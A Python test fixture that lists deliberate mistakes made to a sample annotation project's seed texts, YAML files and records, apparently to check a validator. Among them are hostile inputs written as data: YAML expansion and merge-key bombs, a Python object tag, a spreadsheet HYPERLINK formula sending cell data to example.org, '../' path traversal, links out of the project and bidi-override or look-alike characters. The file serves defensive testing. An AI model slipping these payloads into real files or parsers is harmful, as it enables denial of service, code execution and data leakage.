"""Mistakes that people make in a project, by what they break: seeds, YAML and records."""

from __future__ import annotations

import os
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple, TypeAlias

from conftest import edit, repin
from defectors_data.corpus import file_tree, seed_limits

A, B = "annotations/900_example.yaml", "annotations/901_second.yaml"
REPEAT = 'suffix: " reads a poster"}'
SEED, SECOND = "seeds/900_example.txt", "seeds/901_second.txt"
VOCABULARY, SPEAKERS, DATASET = "annotations/vocabulary.yaml", "annotations/speakers.yaml", "dataset.yaml"
TOMBSTONES = "annotations/tombstones.yaml"
MIB = 1024 * 1024

Act: TypeAlias = Callable[[Path], None]


class Bad(NamedTuple):
    """A group, a mistake, and what makes it in a project."""

    group: str
    name: str
    act: Act


# ---- what can be done to a project -------------------------------------------------------------------------


def swap(file: str, old: str, new: str) -> Act:
    """Replace words that stand once in a file."""
    return lambda root: edit(root, file, old, new)


def holds(file: str, data: bytes | str) -> Act:
    """Make a file hold something else."""
    return lambda root: void((root / file).write_bytes(data.encode() if isinstance(data, str) else data))


def turned(file: str, change: Callable[[bytes], bytes]) -> Act:
    """Make a file hold something else, made from what it held."""
    return lambda root: void((root / file).write_bytes(change((root / file).read_bytes())))


def repinned(act: Act, stem: str = "900_example") -> Act:
    """Do something to a seed, and pin the bytes that it has then."""
    return both(act, lambda root: repin(root, stem))


def longer(text: str) -> Act:
    """Let the second seed go on behind its end, and pin it."""
    return repinned(turned(SECOND, lambda data: data + b"\n" + text.encode()), "901_second")


def both(*acts: Act) -> Act:
    def act(root: Path) -> None:
        for one in acts:
            one(root)

    return act


def gone(path: str) -> Act:
    return lambda root: shutil.rmtree(root / path) if (root / path).is_dir() else (root / path).unlink()


def folder(path: str) -> Act:
    return both(gone(path), lambda root: (root / path).mkdir())


def link(path: str, target: Callable[[Path], Path]) -> Act:
    """Move a file or folder out of the project, or wherever the target is, and put a link in its place."""

    def act(root: Path) -> None:
        there = target(root)
        if not there.exists() and not there.is_symlink() and there.parent.exists():
            shutil.move(root / path, there)
        else:
            gone(path)(root)
        (root / path).symlink_to(there)

    return act


def sized(file: str, size: int) -> Act:
    """Make a file large without writing it out."""
    return lambda root: os.truncate(root / file, size)


def void(_: object) -> None:
    return None


def note(typed: str) -> Act:
    """Type something as a note that belongs to nobody."""
    return swap(A, "note: The text tells of March 3rd; the year is that of the copyright line.", f"note: {typed}")


def words(typed: str) -> Act:
    """Type the words of a figure that belongs to nobody."""
    return swap(A, "evidence: two inns\n", f"evidence: {typed}\n")


def figure(key: str, old: str, new: str) -> Act:
    """Type something else under a key of the first figure."""
    return swap(
        A,
        f"    {key}: {old}\n    {'high' if key == 'value' else 'hedge'}",
        f"    {key}: {new}\n    {'high' if key == 'value' else 'hedge'}",
    )


def as_of(typed: str) -> Act:
    return swap(A, "    as_of: XXXX-03\n", f"    as_of: {typed}\n")


def a_tiny_bomb() -> str:
    """Return merge keys in 431 bytes that a safe loader spends half a minute on."""
    rows = ["a0: &a0 {k: v}"]
    rows += [f"a{i}: &a{i}\n  <<: [{', '.join([f'*a{i - 1}'] * 4)}]" for i in range(1, 12)]
    return "\n".join(rows)[:431] + "\n"


def tombstones(*rows: str) -> Act:
    """List what was taken out, as if a takedown had written it."""
    return holds(TOMBSTONES, "tombstones:\n" + "".join(f"  - {row}\n" for row in rows))


STONE = "{table: testimonies, id: example-t99, date: 2020-01-31, reason: person"
LAUGHS = "a: &a [x, x]\n" + "".join(f"{b}: &{b} [*{a}, *{a}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))

# ---- the table ---------------------------------------------------------------------------------------------

SEEDS: dict[str, Act] = {
    "a byte that is no UTF-8": turned(SEED, lambda data: data.replace(b"Nobody wrote", b"Nob\xf3dy wrote")),
    "UTF-16": turned(SEED, lambda data: data.decode().encode("utf-16")),
    "a byte order mark": turned(SEED, lambda data: b"\xef\xbb\xbf" + data),
    "CRLF after a checkout": turned(SEED, lambda data: data.replace(b"\n", b"\r\n")),
    "a NUL": turned(SEED, lambda data: data.replace(b"two inns", b"two\0inns")),
    "empty": holds(SEED, ""),
    "nothing but white space, pinned": repinned(holds(SEED, " \n\u00a0\n\t")),
    "a pinned seed with CRLF": repinned(turned(SEED, lambda data: data.replace(b"\n", b"\r\n"))),
    "a carriage return in the middle of a line, pinned": repinned(swap(SEED, "two inns", "two\rinns")),
    "a form feed, pinned": repinned(swap(SEED, "\n\nThey crossed", "\n\f\nThey crossed")),
    "an accent apart from its letter, pinned": repinned(swap(SEED, "two inns", "two cafe\u0301s")),
    "a soft hyphen in a word, pinned": repinned(swap(SEED, "two inns", "two in\u00adns")),
    "a zero width space at a quotation mark, pinned": repinned(
        swap(SEED, "“The lamps are dark,” said", "“\u200bThe lamps are dark,” said")
    ),
    "a byte too large": sized(SEED, seed_limits.LARGEST + 1),
    "more words than anybody annotates": longer("and so on\n" * 99_000 + "so " * 3_000),
    "more numbers than anybody annotates": longer("7 \n" * 30_001),
    "more number words than anybody annotates": longer("hundred and hundred and\n" * 15_001),
    "more quotation marks than anybody annotates": longer("'a' 'b'\n" * 15_001),
    "more decades than anybody annotates": longer("a decade \n" * 30_001),
    "more signs than any article has": longer(("a." * 20_000 + "\n") * 21),
    "more lines than any article has": longer("\n" * 100_000),
    "a line of more letters than any paragraph has": longer("so it went " * 10_000),
    "more letters than any script writes without a space": longer("a" * 50_001),
    "missing": gone(SEED),
    "a folder": folder(SEED),
    "a link out of the project": link(SEED, lambda root: root.parent / "elsewhere.txt"),
    "a link to itself": link(SEED, lambda root: root / SEED),
    "a link to nothing": link(SEED, lambda root: root / "nowhere" / "x.txt"),
    "a pipe": both(gone(SEED), lambda root: os.mkfifo(root / SEED)),
    "a folder with the name of a seed": lambda root: (root / "seeds/902_third.txt").mkdir(),
    "its ending in capitals": holds("seeds/902_third.TXT", "A third article.\n"),
    "in a folder of its own": both(
        lambda root: (root / "seeds/more").mkdir(), holds("seeds/more/902_third.txt", "A third article.\n")
    ),
    "no seed and no annotations": both(gone(SEED), gone(SECOND), gone(A), gone(B)),
    "one letter changed": swap(SEED, "two inns", "ten inns"),
    "a line feed more at the end": turned(SEED, lambda data: data + b"\n"),
    "a quoted word changed, pinned": repinned(swap(SEED, "They crossed by night", "They crossed by day")),
    "no folder of seeds": gone("seeds"),
    "a file in place of the folder": both(gone("seeds"), holds("seeds", "x")),
    "a folder of annotations in annotations/": both(
        lambda root: (root / "annotations/more").mkdir(), holds("annotations/more/902_third.yaml", "source: {}\n")
    ),
    "a reading with another ending": both(
        lambda root: (root / "annotations/readings/more").mkdir(parents=True),
        holds("annotations/readings/more/900_example.first.yml", "figures: []\n"),
    ),
    "a pipe with the name of a reading": both(
        lambda root: (root / "annotations/readings").mkdir(),
        lambda root: os.mkfifo(root / "annotations/readings/900_example.first.yaml"),
    ),
    "two files annotate it": holds("annotations/900_example.yml", "source: {}\n"),
    "the folder is a link out of the project": link("seeds", lambda root: root.parent / "elsewhere"),
    "nobody annotates it": holds("seeds/902_third.txt", "A third article.\n"),
    "annotated in a file with another ending": both(
        holds("seeds/902_third.txt", "A third article.\n"), holds("annotations/902_third.yml", "source: {}\n")
    ),
    "its name mistyped": swap(A, "seed: 900_example.txt", "seed: 900_exmaple.txt"),
    "the seed of another file": swap(B, "seed: 901_second.txt", "seed: 900_example.txt"),
    "a name that leads out of the folder": swap(B, "seed: 901_second.txt", "seed: ../dataset.yaml"),
    "the annotations of a seed are missing": gone(B),
    "a name that another file's annotations have": holds("seeds/vocabulary.txt", "A third article.\n"),
    "a name of a file that need not be there": holds("seeds/tombstones.txt", "A third article.\n"),
}

YAML: dict[str, Act] = {
    "a quotation mark that is never closed": words('"two inns'),
    "a colon in words without quotation marks": note("The year: that of the copyright line."),
    "a tab before a key": swap(A, "    hedge: about\n", "\thedge: about\n"),
    "a line indented too deep": swap(A, "    hedge: about\n", "      hedge: about\n"),
    "a line not indented deep enough": swap(A, "    hedge: about\n", "   hedge: about\n"),
    "a bracket that is never closed": swap(A, "themes: [hunger_pay, escape]", "themes: [hunger_pay, escape"),
    "a dash without a space": swap(A, "      - Nobody wrote to us.", "      -Nobody wrote to us."),
    "a conflict that Git left": swap(A, "testimonies:\n", "<<<<<<< HEAD\ntestimonies:\n=======\n>>>>>>> mine\n"),
    "no space behind a colon": swap(A, "    hedge: about\n", "    hedge:about\n"),
    "words that begin with a star": words("*two* inns"),
    "words that begin with an at sign": words("@two inns"),
    "words in braces": words("{two inns}"),
    "words in brackets": words("[[two] inns]"),
    "words behind the sign of a block": words("| two inns"),
    "a backslash that escapes nothing": words('"two \\inns"'),
    "an escaped lone surrogate": words('"two \\ud800 inns"'),
    "an escaped pair of surrogates": words('"two inns \\ud83d\\ude42"'),
    "a key twice": swap(A, "    hedge: about\n", "    hedge: about\n    hedge: exact\n"),
    "a dash left out before a record": swap(A, "  - id: example-f2\n", "    id: example-f2\n"),
    "an anchor": words("&inns two inns"),
    "a billion laughs": turned(A, lambda data: LAUGHS.encode() + data),
    "a merge key": swap(A, "  language: en\n  dateline", "  <<: {language: en}\n  dateline"),
    "a small bomb of merge keys": holds(B, a_tiny_bomb()),
    "a tag that runs Python in some loaders": words("!!python/object/apply:os.getcwd []"),
    "two documents": turned(A, lambda data: data + b"---\nsource: {}\n"),
    "a key that is a list": turned(A, lambda data: data + b"? [a]\n: b\n"),
    "nested a hundred thousand deep": holds(B, "[" * 100_000),
    "nested by dashes": holds(B, "- " * 100_000),
    "a byte too large": sized(A, file_tree.LARGEST + 1),
    "8 MiB of tiny items": holds(B, "a: [" + "x," * (4 * MIB - 8) + "]\n"),
    "a thousand faults of one kind": swap(A, "\nfigures:\n", "\nfigures:\n" + "  - id: example-f99\n" * 1000),
    "no in place of false": swap(A, "    reason: term\n", "    reason: term\n    every_occurrence: no\n"),
    "a comment that cuts a quotation": both(
        repinned(swap(SEED, "so aloud.", "so aloud in tract # 7 of them.")),
        swap(
            A,
            "evidence: less than 1 percent of the 1,600-strong service has said so aloud",
            ("evidence: less than 1 percent of the 1,600-strong service has said so aloud in tract # 7 of them"),
        ),
    ),
    "a comment in place of a quotation": words("# two inns"),
    "a comment in place of words that need not be there": both(
        repinned(swap(SEED, "They crossed by night", "# They crossed by night")),
        swap(A, "  subtitle: They crossed by night, and", "  subtitle: # They crossed by night, and"),
    ),
    "U+0085 that hides a key": note("Of the line. # so\u0085  url: hidden"),
    "a NUL": note("Of the\0line."),
    "empty": holds(A, ""),
    "a reading that is a list": both(
        lambda root: (root / "annotations/readings").mkdir(),
        holds("annotations/readings/900_example.first.yaml", "- {evidence: two inns}\n"),
    ),
    "nothing but a comment": holds(A, "# to be done\n"),
    "a list": holds(A, "- id: example\n"),
    "a picture": holds(A, b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
    "UTF-16": turned(A, lambda data: data.decode().encode("utf-16")),
    "Latin-1": turned(A, lambda data: data.replace("’".encode(), b"\x92")),
    "a folder": folder(A),
    "a link out of the project": link(A, lambda root: root.parent / "elsewhere.yaml"),
    "the folder is a link out of the project": link("annotations", lambda root: root.parent / "elsewhere"),
    "the vocabulary is missing": gone(VOCABULARY),
    "the vocabulary is empty": holds(VOCABULARY, ""),
    "the shared speakers are empty": holds(SPEAKERS, "\n"),
    "the dataset's facts are missing": gone(DATASET),
    "the dataset's facts are empty": holds(DATASET, "# later\n"),
}

RECORDS: dict[str, Act] = {
    "a key that nothing has": swap(A, "    place: northern_isles\n", "    weather: fog\n"),
    "a mistyped key": swap(A, "    hedge: about\n", "    hegde: about\n"),
    "a key mistyped beyond recognition": swap(A, "  - id: example-f2\n", "  - name: example-f2\n"),
    "a mistyped section": swap(A, "\nwaivers:\n", "\nwaiver:\n"),
    "a value that is none of the allowed": swap(A, "    hedge: about\n", "    hedge: abuot\n"),
    "a key missing": swap(A, "    hedge: about\n", ""),
    "a key without a value": swap(A, "    hedge: about\n", "    hedge:\n"),
    "a record that is only begun": swap(A, "  - id: example-f2\n", "  - id: example-f99\n  - id: example-f2\n"),
    "a section's key left out": swap(A, "\nwaivers:\n", "\n"),
    "with a comma": swap(A, "    value: 1600\n", "    value: 1,600\n"),
    "more decimals than anybody means": figure("value", "40", "40.12345678901"),
    "a day that February has not": as_of("2019-02-30"),
    "a date that would take for ever": as_of(f"'{'{' * 30}{'}' * 29}'"),
    "a day of release in another order": swap(DATASET, "released: 2020-02-29", "released: 29-02-2020"),
    "a slash in an id": swap(A, "  - id: example-f2\n", "  - id: ../example-f2\n"),
    "a capital in an id": swap(A, "  - id: mira-fenn\n", "  - id: Mira-fenn\n"),
    "a look-alike letter in an id": swap(A, "  - id: mira-fenn\n", "  - id: mirа-fenn\n"),
    "a look-alike letter in a reference": swap(
        A, "    speaker: mira-fenn\n    mode: direct", ("    speaker: mirа-fenn\n    mode: direct")
    ),
    "an id of a hundred letters": swap(A, "  - id: mira-fenn\n", f"  - id: {'m' * 100}\n"),
    "a note of five thousand letters": note("So " * 1700 + "on."),
    "a line of a thousand letters": swap(A, "rights: Nobody", f"rights: {'Nobody ' * 150}"),
    "a quotation of thirty thousand letters": words("two inns " * 3500),
    "an escaped control character": note('"Of the \\e[2Jline."'),
    "an escaped character that turns what is read around": note('"Of the \\u202eline."'),
    "a character that turns what is read around": note("Of the \u202eline."),
    "a name that is turned around": swap(SPEAKERS, "name: Bruno Salt", 'name: "\\u202etlaS onurB"'),
    "a tab in a line": swap(A, "rights: Nobody", 'rights: "No\\tbody"'),
    "a note without words": note("'—'"),
    "an empty quotation": words('""'),
    "an empty list of themes": swap(A, "    themes: [hunger_pay, escape]\n", "    themes: []\n"),
    "more parts than a quotation has": words("[" + "two inns, " * 101 + "]"),
    "a text in place of a list": swap(A, "    themes: [hunger_pay, escape]\n", "    themes: escape\n"),
    "a list in place of a text": swap(A, "rights: Nobody", "rights: [Nobody]"),
    "a list in place of a number": swap(A, "    value: 1600\n", "    value: [1600]\n"),
    "a checksum that is cut": turned(A, lambda data: re.sub(rb"(sha256: \w{60})\w+", rb"\1", data)),
    "a language by its name": swap(A, "  language: en\n  dateline", "  language: English\n  dateline"),
    "a version with a letter": swap(DATASET, "version: 1.2.3", "version: v1.2.3"),
    "an occurrence counted from nought": swap(B, REPEAT, "occurrence: 0}"),
    "a quotation with a look-alike letter": words("twо inns"),
    "an escaped lone carriage return in a quotation": words('"two\\rinns"'),
    "a withheld person's name": swap(A, "    anonymity: withheld\n", "    anonymity: withheld\n    name: Xq Zvbn\n"),
    "a withheld person's age": swap(
        A, "        evidence: one keeper\n", "        evidence: one keeper\n        age: 27\n"
    ),
    "a formula in a note": note("'=HYPERLINK(\"http://example.org/?\"&A1)'"),
    "a note that reads as an override": note("'The program reads the words otherwise: the year of the copyright.'"),
    "a note that the build would write": note("The closing quotation mark of part 1 is missing in the source."),
    "a mistyped licence": swap(A, "gender: he rowed across at night", "gendre: he rowed across at night"),
    "a section of the vocabulary by the name of one term": swap(VOCABULARY, "\nmeasures:\n", "\nmeasure:\n"),
    "the only section of a file, mistyped": holds(SPEAKERS, "speaker: []\n"),
    "a key of shared speakers by another name": swap(SPEAKERS, "gender: male", "sex: male"),
    "a withheld person among the shared speakers": swap(
        SPEAKERS, "speakers:\n", "speakers:\n  - {id: x-y, kind: person, role: other, anonymity: withheld}\n"
    ),
    "a name for a group": swap(A, "    kind: group\n", "    kind: group\n    anonymity: named\n    name: Xq Zvbn\n"),
    "an unknown key on what was taken out": tombstones(f"{STONE}, Xq Zvbn: x}}"),
    "a name for the reason of a takedown": tombstones(STONE.replace("person", "Xq Zvbn") + "}"),
    "a name for the table of what was taken out": tombstones(STONE.replace("testimonies", "Xq Zvbn") + "}"),
    "a name for the id of what was taken out": tombstones(STONE.replace("example-t99", "Xq Zvbn") + "}"),
    "a section of what was taken out, mistyped": holds(TOMBSTONES, "Xq Zvbn: []\n"),
    "a formula in plain words": swap(A, "counted: keepers who sleep in inns", 'counted: "-2+3"'),
    "a soft hyphen in a note": note('"Of the li\\u00adne."'),
}

BAD = [
    Bad(group, name, act)
    for group, table in (("seeds", SEEDS), ("yaml", YAML), ("records", RECORDS))
    for name, act in table.items()
]
